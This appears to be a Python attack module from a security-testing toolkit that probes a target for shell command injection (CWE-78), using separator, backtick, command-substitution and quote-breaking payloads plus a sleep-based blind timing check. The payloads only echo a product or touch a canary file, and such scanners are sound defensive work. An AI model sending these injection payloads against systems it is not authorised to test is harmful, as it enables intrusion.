"""T-CMD-001: shell escape and command substitution (CWE-78), with a blind timing oracle."""

from __future__ import annotations

import os
import statistics
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from typing import Any

from attacks.base import AttackContext, AttackSpec, Target, excerpt, new_evidence, register, take
from toolkit.core.model import Finding, Severity


@dataclass(frozen=True)
class Probe:
    payload: Any
    token: str
    why: str
    side: str | None = None


def _first_allowed(ctx: AttackContext) -> str:
    allowed = ctx.contract.policy.allowed_commands
    return "echo" if "echo" in allowed or not allowed else str(allowed[0])


def shell_snippets(a: int, b: int, side: str) -> list[tuple[str, str]]:
    """(suffix, why): each makes a shell print a*b or touch ``side`` if it is interpreted."""
    m = f"$(({a}*{b}))"
    return [
        (f"; echo {m}", "semicolon"),
        (f"&& echo {m}", "and-list"),
        (f"|| echo {m}", "or-list"),
        (f"| echo {m}", "pipe"),
        (f"\necho {m}", "newline"),
        (f"`expr {a} \\* {b}`", "backticks"),
        (f"$(expr {a} '*' {b})", "command substitution"),
        (f"${{IFS}}{m}", "${IFS} splitting"),
        (f"';echo {m};'", "single-quote breaking"),
        (f'";echo {m};"', "double-quote breaking"),
        (f"; touch {side}", "side-effect file"),
        (f"$(touch {side})", "side-effect file by command substitution"),
        (f"`touch {side}`", "side-effect file by backticks"),
        (f'"; touch {side}; "', "side-effect file breaking double quotes"),
        (f"'; touch {side}; '", "side-effect file breaking single quotes"),
        (f"| touch {side}", "side-effect file through a pipe"),
        (f"\ntouch {side}\n", "side-effect file after a newline"),
    ]


def corpus(ctx: AttackContext, cls: str, side: str) -> Iterator[Probe]:
    rng = ctx.rng("cmd")
    cmd = _first_allowed(ctx)
    for suffix, why in shell_snippets(rng.randint(1000, 9999), rng.randint(1000, 9999), side):
        a_b = _product(suffix)
        if cls == "command":
            yield Probe(f"{cmd} x{suffix}", a_b, why, side if "touch" in suffix else None)
            if "touch" in suffix:  # the value may be data spliced into someone else's command line
                yield Probe(f"x{suffix}", a_b, f"{why}, value alone", side)
        elif cls == "argv":
            yield Probe(
                [cmd, f"x{suffix}"],
                a_b,
                f"{why} inside one argument",
                side if "touch" in suffix else None,
            )
            yield Probe([cmd, "x", *suffix.split()], a_b, f"{why} split across arguments",
                        side if "touch" in suffix else None)


def _product(suffix: str) -> str:
    import re

    m = re.search(r"(\d{4})\D{1,6}(\d{4})", suffix)
    return str(int(m.group(1)) * int(m.group(2))) if m else ""


@register
class ShellInjection:
    """Shell escape and command substitution (CWE-78).

    For command and argv surfaces (and option surfaces at budget deep, for timing):
    separators ``;`` ``&&`` ``||`` ``|``, newlines, backticks, ``$( )``, ``${IFS}`` and
    quote breaking. Option injection is its own attack (T-OPT-001, CWE-88). Computed oracles:
    an arithmetic
    product whose digits never appear in the payload, or a side-effect file created in
    the toolkit's private folder. On a surface declared ``blind = true`` (or at budget
    ``deep``) a timing oracle alternates long and short ``sleep`` delays and requires a
    linear fit of response time on requested delay (slope near 1, r^2 >= 0.9), as ZAP's
    time-based rules do, never a single ``duration >= N``.
    """

    spec = AttackSpec("T-CMD-001", "command", "Shell escape and command substitution", 78,
                      Severity.CRITICAL, ("command", "argv", "option"))

    def run(self, ctx: AttackContext, target: Target) -> Iterable[Finding]:
        for cls in ("command", "argv", "option"):
            if cls in target.surface.classes:
                if cls != "option":
                    yield from self._attack(ctx, target, cls)
                if target.surface.get("blind", False) or ctx.budget == "deep":
                    yield from self._timing(ctx, target, cls)

    def _attack(self, ctx: AttackContext, target: Target, cls: str) -> Iterator[Finding]:
        side_dir = ctx.canaries.work / "side"
        side_dir.mkdir(parents=True, exist_ok=True)
        for i, probe in enumerate(
            take(corpus(ctx, cls, str(side_dir / f"cmd-{ctx.canaries.token()}")), ctx.limit)
        ):
            reply = target.send(probe.payload)
            ctx.seen(self.spec.id, target, probe.payload, reply)
            tok = (
                new_evidence(reply, [probe.token], target.baseline, probe.payload)
                if probe.token
                else None
            )
            if tok:
                yield ctx.finding(
                    self.spec,
                    target,
                    cls,
                    probe.payload,
                    reply,
                    f"{probe.why}: product {tok} computed by a shell: {excerpt(reply.text, tok)}",
                    f"arith:{probe.why}",
                )
            elif probe.side and _exists(probe.side):
                os.unlink(probe.side)  # so the next probe's verdict is its own
                yield ctx.finding(self.spec, target, cls, probe.payload, reply,
                                  f"{probe.why}: side-effect file created outside the sandbox",
                                  f"side:{probe.why}")

    def _timing(self, ctx: AttackContext, target: Target, cls: str) -> Iterator[Finding]:
        cmd = _first_allowed(ctx)
        delays = [0, 2, 0, 1, 0, 2] if ctx.budget != "quick" else [0, 2, 0, 1]
        xs, ys = [], []
        payload: Any = None
        reply = None
        for d in delays:
            payload = (f"{cmd} x; sleep {d}" if cls == "command" else
                       [cmd, f"x;sleep {d}"] if cls == "argv" else f"--x=$(sleep {d})")
            reply = target.send(payload, timeout=15.0)
            xs.append(float(d))
            ys.append(reply.elapsed)
        fit = linear_fit(xs, ys)
        if fit and fit[0] > 0.7 and fit[2] >= 0.9:
            slope, intercept, r2 = fit
            yield ctx.finding(
                self.spec,
                target,
                cls,
                payload,
                reply,
                f"blind timing: response time follows requested sleep (slope {slope:.2f}, "
                f"intercept {intercept:.3f} s, r^2 {r2:.3f}, delays {delays}, "
                f"times {[round(y, 3) for y in ys]})",
                "timing:linear-fit",
            )


def linear_fit(xs: list[float], ys: list[float]) -> tuple[float, float, float] | None:
    """Least squares y = slope*x + intercept, with r^2; None when x has no spread."""
    if len(xs) < 3 or statistics.pvariance(xs) == 0:
        return None
    mx, my = statistics.fmean(xs), statistics.fmean(ys)
    sxy = sum((x - mx) * (y - my) for x, y in zip(xs, ys))
    sxx = sum((x - mx) ** 2 for x in xs)
    slope = sxy / sxx
    intercept = my - slope * mx
    ss_tot = sum((y - my) ** 2 for y in ys)
    ss_res = sum((y - (slope * x + intercept)) ** 2 for x, y in zip(xs, ys))
    r2 = 1.0 - ss_res / ss_tot if ss_tot > 0 else 0.0
    return slope, intercept, r2


def _exists(path: str) -> bool:
    import os

    return os.path.lexists(path)
